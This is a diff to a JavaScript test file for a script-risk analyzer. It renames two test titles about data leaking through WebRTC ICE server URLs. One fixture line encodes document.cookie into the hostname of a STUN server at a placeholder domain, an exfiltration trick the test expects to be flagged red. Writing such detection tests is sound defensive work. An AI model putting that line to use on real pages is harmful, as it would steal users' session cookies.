@@ -127,11 +127,11 @@ describe("servers of a peer connection", () => {
 			"the name of the host",
 			`new RTCPeerConnection({ iceServers: [{ urls: "stun:" + btoa(document.cookie) + ".c.test:3478" }] });`,
 		],
-	])("%s tells the secret", (_title, code) => {
+	])("%s sends the secret", (_title, code) => {
 		expect(analyzeScript({ code }).risk_level).toBe("red");
 	});
 
-	test("a public server is told nothing", () => {
+	test("a public server receives no secret", () => {
 		const { sinks } = traceOf(`new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.c.test" }] });`);
 		expect(sinks.flatMap(({ carried }) => carried)).toEqual([]);
 	});
